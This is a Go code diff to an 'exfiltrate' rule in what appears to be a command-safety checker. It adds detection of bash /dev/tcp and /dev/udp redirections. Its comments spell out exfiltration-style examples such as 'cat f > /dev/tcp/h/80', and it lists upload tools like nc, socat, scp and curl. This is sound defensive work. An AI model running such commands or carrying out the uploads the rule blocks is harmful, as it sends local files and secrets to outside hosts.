@@ -19,7 +19,9 @@ var exfiltrate = Rule{
 name=@file, name:=@file); scp and rsync with a remote destination; the
 put, reput and mput commands of an sftp batch (-b FILE, or stdin); nc, ncat,
 netcat, socat and telnet fed a file by redirection or by an upstream cat;
-socat's FILE: or OPEN: address; gh gist create FILE. An upload of a secret
+socat's FILE: or OPEN: address; gh gist create FILE; and a redirection
+to bash's /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT (cat f > /dev/tcp/h/80,
+exec 3<>/dev/tcp/h/80), which is a connection, not a file. An upload of a secret
 (the secret class of the path module) is denied. An upload of any other local
 file to a host that is not on network.allow_hosts (default: the loopback
 names) is asked about; curl's host is its URL's (a URL without a scheme is
@@ -42,8 +44,44 @@ u@h as a prefix) sends its whole context there: a context holding a secret
 that .dockerignore does not leave out is denied; a local daemon passes.`,
 	Commands: []string{"curl", "wget", "wget2", "http", "https", "xh", "xhs", "scp", "rsync", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "gh", "ssh", "openssl", "docker",
 		"env", "printenv", "set", "export", "declare", "typeset", "cat"},
-	Call:    checkExfiltrate,
-	Command: checkEnvSends,
+	Call:     checkExfiltrate,
+	Command:  checkEnvSends,
+	Redirect: checkNetRedirect,
+}
+
+// netRedirect reports a redirection bash turns into a network
+// connection, /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT, with its host
+// and port.
+func netRedirect(r syntax.Redirect) (host, port string, ok bool) {
+	if !r.Target.Static {
+		return "", "", false
+	}
+	rest, isTCP := strings.CutPrefix(r.Target.Value, "/dev/tcp/")
+	if !isTCP {
+		if rest, ok = strings.CutPrefix(r.Target.Value, "/dev/udp/"); !ok {
+			return "", "", false
+		}
+	}
+	host, port, ok = strings.Cut(rest, "/")
+	return host, port, ok && host != ""
+}
+
+// checkNetRedirect judges a redirection that opens a connection (cat f >
+// /dev/tcp/host/80, exec 3<>/dev/tcp/host/80): what the command writes
+// there goes to host, so one off network.allow_hosts asks, as an upload
+// does; a secret the command reads is denied by secret-read.
+func checkNetRedirect(p *Pass, r syntax.Redirect) {
+	if !r.Writes() {
+		return
+	}
+	host, port, ok := netRedirect(r)
+	if !ok || p.hostAllowed(host) {
+		return
+	}
+	f := Finding{Rule: "exfiltrate", Decision: Ask, Text: r.Target.Raw,
+		Message: whereIn(r.Script, r.Target.Start) + fmt.Sprintf("the redirection to %s connects to %s port %s, which is not on network.allow_hosts, and sends what the command writes there", r.Target.Raw, host, port)}
+	f.Start, f.End = topSpanOf(r.Script, r.Target.Start, r.Target.End)
+	p.Report(nil, f)
 }
 
 // networkCommands send data to another host.
